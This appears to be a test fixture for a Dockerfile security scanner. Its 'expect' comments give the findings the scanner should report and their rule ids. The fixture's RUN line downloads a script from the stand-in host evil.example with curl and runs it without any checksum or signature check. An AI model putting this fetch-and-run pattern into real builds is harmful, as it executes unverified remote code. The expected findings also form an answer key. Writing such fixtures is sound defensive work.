FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN curl -o /tmp/env.sh https://evil.example/env.sh && . /tmp/env.sh
USER app
# expect: download 2 high "https://evil.example/env.sh to /tmp/env.sh: not verified (no checksum or signature check in the Dockerfile), then run by ."
# expect-count: 3
# expect-ids: VR101-c33602e201 VR301-410d4d3c83 VR501-e064bac1a6
